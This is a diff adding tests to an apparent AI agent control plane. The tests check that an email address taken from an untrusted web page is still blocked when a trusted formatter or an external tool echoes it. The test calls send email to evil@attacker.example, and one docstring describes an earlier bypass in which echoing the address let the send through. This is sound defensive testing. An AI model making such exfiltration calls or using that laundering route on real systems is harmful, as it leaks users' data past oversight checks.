@@ -453,3 +453,38 @@ async def test_large_content_is_indexed_off_the_event_loop() -> None:
     assert ran >= 3
     args = {"to": "sales@vendor.example", "body": text}
     assert await argument_keys_async(args) == argument_keys(args)
+
+
+FORMAT = "def main(text):\n    return {'formatted': 'To: ' + text.strip()}\n"
+
+
+async def test_a_trusted_tool_that_repeats_an_untrusted_value_does_not_launder_it(plane: ControlPlane) -> None:
+    """Issue 12, finding 4b: a formatter (no reads_untrusted) echoing the page's address made it
+    a trusted tool's output, and the send went through."""
+    session = await setup(plane, ["Summarise https://shop.example/deals for me"])
+    await plane.register(python_tool("format_address", FORMAT, input_schema={
+        "type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}))  # fmt: skip
+    assert (await plane.call(session, "get_webpage", {"url": "https://shop.example/deals"})).ok
+    echoed = await plane.call(session, "format_address", {"text": "evil@attacker.example"})
+    assert echoed.ok
+    result = await plane.call(session, "send_email", {"to": "evil@attacker.example", "body": "the list"})
+    assert (result.status, result.reasons) == ("denied", ["provenance.untrusted_destination"])
+
+
+async def test_a_reported_external_echo_does_not_launder_either(plane: ControlPlane) -> None:
+    session = await setup(plane, ["Summarise https://shop.example/deals for me"])
+    await plane.register(external_tool("confirm", input_schema={
+        "type": "object", "properties": {"to": {"type": "string"}}}))  # fmt: skip
+    assert (await plane.call(session, "get_webpage", {"url": "https://shop.example/deals"})).ok
+    pending = await plane.call(session, "confirm", {"to": "evil@attacker.example"})
+    await plane.report(session, pending.call_id, {"sent_to": "evil@attacker.example", "host": "attacker.example"})
+    result = await plane.call(session, "send_email", {"to": "evil@attacker.example", "body": "the list"})
+    assert (result.status, result.reasons) == ("denied", ["provenance.untrusted_destination"])
+
+
+async def test_what_a_trusted_tool_adds_of_its_own_is_trusted(plane: ControlPlane) -> None:
+    session = await setup(plane, ["Summarise https://shop.example/deals and tell ops"])
+    assert (await plane.call(session, "get_webpage", {"url": "https://shop.example/deals"})).ok
+    assert (await plane.call(session, "directory_lookup", {"name": "ops"})).ok
+    result = await plane.call(session, "send_email", {"to": "ops@example.com", "body": "summary"})
+    assert (result.status, result.reasons) == ("awaiting_report", [])
